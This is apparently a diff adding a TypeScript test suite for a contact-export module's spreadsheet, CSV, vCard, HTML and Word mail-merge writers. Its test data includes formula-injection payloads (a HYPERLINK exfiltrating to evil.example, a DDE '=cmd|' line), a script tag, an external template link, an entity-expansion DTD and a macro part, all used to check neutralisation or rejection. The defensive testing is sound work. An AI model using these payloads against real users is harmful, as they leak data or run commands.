@@ -1,0 +1,546 @@
+import { expect } from 'chai';
+import ExcelJS from 'exceljs';
+import { parse } from 'parse5';
+import { SaxesParser } from 'saxes';
+import { AppError } from '../../platform/http/errors.ts';
+import { mapHeaders } from '../imports/readers/header-map.ts';
+import { keyOfTarget } from '../imports/readers/column-keys.ts';
+import { readContacts } from '../imports/readers/index.ts';
+import type { ImportedContact } from '../imports/readers/index.ts';
+import {
+  outlookColumns,
+  writeOutlookCsv,
+  writeWordCsv,
+} from './csv-writers.ts';
+import { writeDocxLabels, writeDocxLetters } from './docx-writer.ts';
+import { neutralise } from './formula-guard.ts';
+import { writeHtml } from './html-writer.ts';
+import { docxText, docxWith, sampleRow, written } from './test-support.ts';
+import { foldLine, writeVcard3, writeVcard4 } from './vcard-writer.ts';
+import { writeXlsx } from './xlsx-writer.ts';
+
+async function readBack(name: string, bytes: Buffer) {
+  const contacts: ImportedContact[] = [];
+  for await (const row of readContacts(name, bytes)) {
+    if ('contact' in row) contacts.push(row.contact);
+  }
+
+  return contacts;
+}
+
+/** True when the XML parses (saxes is strict: any well-formedness error throws). */
+const wellFormed = (xml: string) => {
+  try {
+    new SaxesParser().write(xml).close();
+
+    return true;
+  } catch {
+    return false;
+  }
+};
+
+type HtmlNode = {
+  nodeName: string;
+  value?: string;
+  attrs?: { name: string; value: string }[];
+  childNodes?: HtmlNode[];
+};
+
+/** Every element named `tag` under a node, in document order. */
+const elements = (node: HtmlNode, tag: string): HtmlNode[] => [
+  ...(node.nodeName === tag ? [node] : []),
+  ...(node.childNodes ?? []).flatMap((child) => elements(child, tag)),
+];
+
+const textOf = (node: HtmlNode): string =>
+  node.nodeName === '#text'
+    ? (node.value ?? '')
+    : (node.childNodes ?? []).map(textOf).join('');
+
+const attribute = (node: HtmlNode, name: string) =>
+  node.attrs?.find((attr) => attr.name === name)?.value;
+
+describe('formula neutralisation', () => {
+  it('prefixes text a spreadsheet would run as a formula', () => {
+    for (const value of ['=1+2', '+cmd', '-2+3', '@SUM(A1)', '\t=x', '\r=x'])
+      expect(neutralise(value)).to.equal(`'${value}`);
+    expect(neutralise('Dupont')).to.equal('Dupont');
+    expect(neutralise('06 12 34 56 78')).to.equal('06 12 34 56 78');
+  });
+
+  it('keeps an international phone number readable in a phone column only', () => {
+    expect(neutralise('+33 6 12 34 56 78', true)).to.equal('+33 6 12 34 56 78');
+    expect(neutralise('+33 6 12 34 56 78')).to.equal("'+33 6 12 34 56 78");
+    expect(neutralise('+1 (555) 010-0199', true)).to.equal('+1 (555) 010-0199');
+    // Anything else in a phone column is still neutralised.
+    expect(neutralise('+HYPERLINK("x")', true)).to.equal(`'+HYPERLINK("x")`);
+    expect(neutralise('=1+2', true)).to.equal("'=1+2");
+  });
+});
+
+describe('xlsx export', () => {
+  it('writes typed cells under a frozen, filtered French header', async () => {
+    const rows = [
+      sampleRow(),
+      sampleRow({
+        id: 8,
+        lastName: '=HYPERLINK("http://evil.example/?"&A1)',
+        firstName: null,
+        phone: '+44 20 7946 0958',
+        birthDate: '--07-14',
+      }),
+    ];
+    const { bytes, count } = await written(writeXlsx, rows);
+    expect(count).to.equal(2);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0]!;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    expect(header.slice(0, 11)).to.deep.equal([
+      'Identifiant',
+      'Civilité',
+      'Titre',
+      'Nom',
+      'Prénom',
+      'Type de contact',
+      'Fonction',
+      'Société / Organisme',
+      'E-mail principal',
+      'Fax principal',
+      'Téléphone principal',
+    ]);
+    expect(sheet.views[0]).to.include({ state: 'frozen', ySplit: 1 });
+    expect(sheet.autoFilter).to.not.equal(undefined);
+    expect(sheet.getRow(1).getCell(1).font?.bold).to.equal(true);
+    expect(sheet.getColumn(4).width).to.equal(20);
+
+    const first = sheet.getRow(2);
+    expect(first.getCell(1).value).to.equal(7);
+    expect(first.getCell(2).value).to.equal('Mme');
+    expect(first.getCell(6).value).to.equal('Presse');
+    expect(first.getCell(11).value).to.equal('05 61 00 00 01');
+    expect(first.getCell(11).type).to.equal(ExcelJS.ValueType.String);
+    const created = first.getCell(24).value as Date;
+    // 23:30 UTC on 15 January is already the 16th in Paris.
+    expect(created).to.be.instanceOf(Date);
+    expect(created.toISOString().slice(0, 10)).to.equal('2026-01-16');
+    expect(first.getCell(24).numFmt).to.equal('dd/mm/yyyy');
+    expect((first.getCell(23).value as Date).toISOString()).to.equal(
+      '1980-02-29T00:00:00.000Z',
+    );
+
+    const second = sheet.getRow(3);
+    expect(second.getCell(4).value).to.equal(
+      `'=HYPERLINK("http://evil.example/?"&A1)`,
+    );
+    expect(second.getCell(4).type).to.equal(ExcelJS.ValueType.String);
+    expect(second.getCell(11).value).to.equal('+44 20 7946 0958');
+    expect(second.getCell(23).value).to.equal('14/07');
+  });
+
+  it('writes English headers on request', async () => {
+    const { bytes } = await written(writeXlsx, [sampleRow()], { lang: 'en' });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
+    const header = workbook.worksheets[0]!.getRow(1).values as unknown[];
+    expect(header.slice(1, 9)).to.deep.equal([
+      'ID',
+      'Civility',
+      'Title',
+      'Last name',
+      'First name',
+      'Contact type',
+      'Function',
+      'Organisation',
+    ]);
+    expect(workbook.worksheets[0]!.getRow(2).getCell(6).value).to.equal(
+      'Press',
+    );
+  });
+});
+
+describe('Outlook CSV export', () => {
+  it('uses only column names the importer knows as Outlook’s, in both languages', () => {
+    for (const lang of ['fr', 'en'] as const) {
+      const headers = outlookColumns.map((column) => column.header[lang]);
+      const mapping = mapHeaders(headers);
+      const keys = mapping.columns.map((target) =>
+        target ? keyOfTarget(target) : null,
+      );
+      expect(keys, lang).to.deep.equal([
+        'civility',
+        'firstName',
+        null,
+        'lastName',
+        null,
+        'company',
+        'department',
+        'function',
+        'address.work.street',
+        'address.work.street2',
+        'address.work.city',
+        'address.work.region',
+        'address.work.postalCode',
+        'address.work.country',
+        'phone.fax',
+        'phone.office',
+        'phone.office',
+        'phone.home',
+        'phone.home',
+        'phone.mobile',
+        'phone.other',
+        'email',
+        null,
+        null,
+        'email',
+        'email',
+        'contactType',
+      ]);
+    }
+  });
+
+  it('writes UTF-8 with BOM, CRLF and quoted fields, as Outlook does', async () => {
+    const { bytes } = await written(writeOutlookCsv, [sampleRow()]);
+    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString('utf8').slice(1);
+    const lines = text.split('\r\n');
+    expect(lines[0]).to.match(/^"Titre","Prénom","Deuxième prénom","Nom",/);
+    expect(lines[1]).to.match(/^"Mme","Éloïse","","Lefèvre","",/);
+    expect(lines[2]).to.equal('');
+    expect(text.replace(/\r\n/g, '')).to.not.include('\n');
+  });
+
+  it('loses no field of the minimum set through the project’s Outlook importer', async () => {
+    const rows = [
+      sampleRow(),
+      sampleRow({
+        id: 9,
+        civility: 'M',
+        title: null,
+        lastName: 'O’Brien, "Jr"',
+        firstName: 'Seán',
+        contactType: 'decision_maker',
+        function: 'Directeur; général',
+        organisation: 'BBC\nWorld',
+        department: null,
+        email: 'sean@bbc.co.uk',
+        otherEmails: [],
+        phone: '+44 20 7946 0958',
+        office: ['+44 20 7946 0958'],
+        mobile: [],
+        fax: '+44 20 7946 0000',
+        street: '=cmd|"/c calc"!A1',
+        street2: null,
+        postalCode: 'W1A 1AA',
+        city: 'London',
+        country: 'GB',
+      }),
+    ];
+    for (const lang of ['fr', 'en'] as const) {
+      const { bytes } = await written(writeOutlookCsv, rows, { lang });
+      const [first, second] = await readBack('contacts.csv', bytes);
+      expect(first, lang).to.deep.include({
+        civility: 'MME',
+        firstName: 'Éloïse',
+        lastName: 'Lefèvre',
+        contactType: 'press',
+      });
+      expect(first?.emails?.map((e) => e.address)).to.deep.equal([
+        'eloise.lefevre@ladepeche.fr',
+        'eloise@perso.fr',
+      ]);
+      expect(first?.affiliations?.[0]).to.deep.include({
+        companyName: 'La Dépêche du Midi',
+        function: 'Rédactrice en chef',
+        department: 'Culture',
+      });
+      const phones = first?.phones?.map((p) => [p.kind, p.number]);
+      expect(phones).to.deep.include(['office', '05 61 00 00 01']);
+      expect(phones).to.deep.include(['fax', '05 61 00 00 02']);
+      expect(phones).to.deep.include(['mobile', '06 12 34 56 78']);
+      expect(first?.addresses?.[0]).to.deep.include({
+        street: '12 rue de l’Église',
+        postalCode: '31000',
+        city: 'Toulouse',
+        country: 'FR',
+      });
+
+      expect(second, lang).to.deep.include({
+        civility: 'M',
+        firstName: 'Seán',
+        lastName: 'O’Brien, "Jr"',
+        contactType: 'decision_maker',
+      });
+      expect(second?.affiliations?.[0]).to.deep.include({
+        companyName: 'BBC\nWorld',
+        function: 'Directeur; général',
+      });
+      // E.164 numbers come back as they left: no apostrophe in Outlook's phone fields.
+      const foreign = second?.phones?.map((p) => [p.kind, p.number]);
+      expect(foreign).to.deep.include(['office', '+44 20 7946 0958']);
+      expect(foreign).to.deep.include(['fax', '+44 20 7946 0000']);
+      expect(second?.addresses?.[0]?.street).to.equal(`'=cmd|"/c calc"!A1`);
+    }
+  });
+});
+
+describe('vCard export', () => {
+  it('folds long lines at 75 octets without cutting a character', () => {
+    const line = `NOTE:${'é'.repeat(100)}`;
+    const folded = foldLine(line);
+    const parts = folded.split('\r\n');
+    for (const part of parts) expect(Buffer.byteLength(part)).to.be.at.most(75);
+    expect(
+      parts.map((part, i) => (i ? part.slice(1) : part)).join(''),
+    ).to.equal(line);
+  });
+
+  for (const [version, writer] of [
+    ['3.0', writeVcard3],
+    ['4.0', writeVcard4],
+  ] as const) {
+    it(`writes vCard ${version} that the project’s vCard reader reads back`, async () => {
+      const rows = [
+        sampleRow({
+          organisation:
+            'Radio; Télé, et Cie — une très longue raison sociale pour plier',
+        }),
+        sampleRow({
+          id: 8,
+          lastName: 'Martin',
+          firstName: 'Paul',
+          civility: 'M',
+        }),
+      ];
+      const { bytes, count } = await written(writer, rows);
+      expect(count).to.equal(2);
+      const text = bytes.toString('utf8');
+      expect(text).to.include(`VERSION:${version}\r\n`);
+      expect(text).to.not.match(/CHARSET/i);
+      for (const line of text.split('\r\n'))
+        expect(Buffer.byteLength(line)).to.be.at.most(75);
+      const [first, second] = await readBack('contacts.vcf', bytes);
+      expect(first).to.deep.include({
+        civility: 'MME',
+        firstName: 'Éloïse',
+        lastName: 'Lefèvre',
+      });
+      expect(first?.affiliations?.[0]).to.deep.include({
+        companyName:
+          'Radio; Télé, et Cie — une très longue raison sociale pour plier',
+        department: 'Culture',
+        function: 'Rédactrice en chef',
+      });
+      expect(first?.emails?.[0]?.address).to.equal(
+        'eloise.lefevre@ladepeche.fr',
+      );
+      const phones = first?.phones?.map((p) => [p.kind, p.number]);
+      expect(phones).to.deep.include(['office', '05 61 00 00 01']);
+      expect(phones).to.deep.include(['fax', '05 61 00 00 02']);
+      expect(phones).to.deep.include(['mobile', '06 12 34 56 78']);
+      expect(first?.addresses?.[0]).to.deep.include({
+        street: '12 rue de l’Église',
+        street2: 'Bâtiment B',
+        postalCode: '31000',
+        city: 'Toulouse',
+      });
+      expect(first?.terms).to.deep.include({
+        kind: 'category',
+        path: ['Presse'],
+      });
+      expect(second).to.deep.include({ civility: 'M', lastName: 'Martin' });
+    });
+  }
+});
+
+describe('HTML export', () => {
+  it('writes an accessible French page with every value escaped', async () => {
+    const rows = [
+      sampleRow({
+        lastName: '<script>alert("x")</script>',
+        organisation: 'A & B',
+      }),
+      sampleRow({ id: 8 }),
+    ];
+    const { bytes, count } = await written(writeHtml, rows);
+    expect(count).to.equal(2);
+    const html = bytes.toString('utf8');
+    expect(html).to.not.include('<script>');
+    const document = parse(html) as unknown as HtmlNode;
+    expect(attribute(elements(document, 'html')[0]!, 'lang')).to.equal('fr');
+    expect(textOf(elements(document, 'caption')[0]!)).to.equal(
+      'Liste des contacts exportés',
+    );
+    const headers = elements(document, 'th');
+    expect(headers.every((th) => attribute(th, 'scope') === 'col')).to.equal(
+      true,
+    );
+    expect(headers.map(textOf).slice(0, 3)).to.deep.equal([
+      'Nom',
+      'Prénom',
+      'Type de contact',
+    ]);
+    const body = elements(document, 'tbody')[0]!;
+    const cells = elements(body, 'tr').map((tr) =>
+      elements(tr, 'td').map(textOf),
+    );
+    expect(elements(document, 'script')).to.have.length(0);
+    expect(cells).to.have.length(2);
+    expect(cells[0]?.[0]).to.equal('<script>alert("x")</script>');
+    expect(cells[0]?.[4]).to.equal('A & B');
+    expect(html).to.include('@media print');
+  });
+});
+
+describe('Word mail-merge CSV', () => {
+  it('writes semicolon-separated fields under merge field names, UTF-8 with BOM', async () => {
+    const { bytes } = await written(writeWordCsv, [
+      sampleRow({ lastName: '@SOMME(A1)' }),
+    ]);
+    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
+    const [header, line] = bytes.toString('utf8').slice(1).split('\r\n');
+    expect(header).to.match(
+      /^"Civilité";"Titre";"Nom";"Prénom";"Type_de_contact";"Fonction";"Société";/,
+    );
+    expect(line).to.match(
+      /^"Mme";"Docteure";"'@SOMME\(A1\)";"Éloïse";"Presse";/,
+    );
+    expect(header).to.include('"Code_postal";"Ville"');
+  });
+});
+
+describe('DOCX mail merge', () => {
+  it('writes one built-in letter per contact, page breaks between them', async () => {
+    const rows = [
+      sampleRow(),
+      sampleRow({
+        id: 8,
+        civility: 'M',
+        firstName: 'Paul',
+        lastName: 'Martin',
+        street2: null,
+        title: null,
+      }),
+      sampleRow({
+        id: 9,
+        lastName: 'Tom & Jerry <SARL>',
+        civility: null,
+        title: null,
+      }),
+    ];
+    const { bytes, count } = await written(writeDocxLetters, rows);
+    expect(count).to.equal(3);
+    const text = await docxText(bytes);
+    const letters = text.split('\f');
+    expect(letters).to.have.length(3);
+    expect(letters[0]).to.include('Mme Docteure Éloïse Lefèvre\n');
+    expect(letters[0]).to.include('Bâtiment B\n31000 Toulouse\n');
+    expect(letters[0]).to.include('Madame,');
+    // No empty line where Paul has no second address line.
+    expect(letters[1]).to.include('12 rue de l’Église\n31000 Toulouse');
+    expect(letters[1]).to.include('Monsieur,');
+    expect(letters[2]).to.include('Éloïse Tom & Jerry <SARL>');
+    expect(letters[2]).to.include('Madame, Monsieur,');
+    expect(text).to.not.match(/\{\{|«/);
+    const zip = await (await import('jszip')).default.loadAsync(bytes);
+    expect(
+      wellFormed(await zip.file('word/document.xml')!.async('string')),
+    ).to.equal(true);
+    expect(zip.file('[Content_Types].xml')).to.not.equal(null);
+  });
+
+  it('merges a user template whose placeholders Word split across runs', async () => {
+    const template = await docxWith(
+      '<w:p><w:r><w:t xml:space="preserve">Bonjour {{Pré</w:t></w:r>' +
+        '<w:r><w:rPr><w:b/></w:rPr><w:t>nom</w:t></w:r>' +
+        '<w:r><w:t>}} {{ NOM }}, de «Soci</w:t></w:r><w:r><w:t>été»</w:t></w:r></w:p>' +
+        '<w:p><w:bookmarkStart w:id="0" w:name="_GoBack"/>' +
+        '<w:fldSimple w:instr=" MERGEFIELD Ville \\* MERGEFORMAT ">' +
+        '<w:r><w:t>«Ville»</w:t></w:r></w:fldSimple><w:bookmarkEnd w:id="0"/></w:p>' +
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+        '<w:r><w:instrText xml:space="preserve"> MERGEFIELD Code_postal </w:instrText></w:r>' +
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
+        '<w:r><w:t>«Code_postal»</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    );
+    const { bytes } = await written(
+      writeDocxLetters,
+      [sampleRow(), sampleRow({ firstName: 'A<b>', lastName: 'X & Y' })],
+      { template, templateName: 'lettre.docx' },
+    );
+    const text = await docxText(bytes);
+    const [first, second] = text.split('\f');
+    expect(first).to.equal(
+      'Bonjour Éloïse Lefèvre, de La Dépêche du Midi\nToulouse\n31000\n',
+    );
+    expect(second).to.include('Bonjour A<b> X & Y,');
+    const zip = await (await import('jszip')).default.loadAsync(bytes);
+    const xml = await zip.file('word/document.xml')!.async('string');
+    expect(wellFormed(xml)).to.equal(true);
+    expect(xml).to.not.include('bookmarkStart');
+    // The user's formatting run stays where it was.
+    expect(xml).to.include('<w:b/>');
+  });
+
+  it('refuses hostile or broken templates, naming the file and the reason', async () => {
+    const cases: [Buffer, RegExp][] = [
+      [
+        Buffer.from('%PDF-1.7 pas un docx'),
+        /« faux\.docx » refusé : ce n’est pas un document Word/,
+      ],
+      [
+        await docxWith('<w:p><w:r><w:t>{{Salaire}}</w:t></w:r></w:p>'),
+        /champ\(s\) de fusion inconnu\(s\) « Salaire »/,
+      ],
+      [
+        await docxWith('<w:p/>', {
+          'word/_rels/settings.xml.rels':
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/' +
+            'officeDocument/2006/relationships/attachedTemplate" ' +
+            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        }),
+        /ressource externe/,
+      ],
+      [
+        await docxWith('<w:p/>', {
+          'word/custom.xml':
+            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
+        }),
+        /DTD/,
+      ],
+      [await docxWith('<w:p/>', { 'word/vbaProject.bin': 'macro' }), /macros/],
+    ];
+    for (const [template, reason] of cases) {
+      const failure = await written(writeDocxLetters, [sampleRow()], {
+        template,
+        templateName: 'faux.docx',
+      }).catch((error: unknown) => error);
+      expect(failure).to.be.instanceOf(AppError);
+      const error = failure as AppError;
+      expect(error.code).to.equal('EXPORT_TEMPLATE_INVALID');
+      expect(error.status).to.equal(422);
+      expect(error.messageFr).to.match(reason);
+      expect(error.messageFr).to.include('« faux.docx »');
+      expect(error.messageEn).to.include('"faux.docx"');
+    }
+  });
+
+  it('lays labels out 3 across, each an address block', async () => {
+    const rows = Array.from({ length: 5 }, (_unused, index) =>
+      sampleRow({ id: index + 1, lastName: `Nom${index + 1}`, street2: null }),
+    );
+    const { bytes, count } = await written(writeDocxLabels, rows);
+    expect(count).to.equal(5);
+    const zip = await (await import('jszip')).default.loadAsync(bytes);
+    const xml = await zip.file('word/document.xml')!.async('string');
+    expect(wellFormed(xml)).to.equal(true);
+    expect(xml.match(/<w:tr>/g)).to.have.length(2);
+    expect(xml.match(/<w:tc>/g)).to.have.length(6);
+    const text = await docxText(bytes);
+    expect(text).to.include(
+      'Mme Docteure Éloïse Nom1\nRédactrice en chef\nLa Dépêche du Midi\n' +
+        '12 rue de l’Église\n31000 Toulouse\n',
+    );
+    expect(text).to.include('Nom5');
+  });
+});
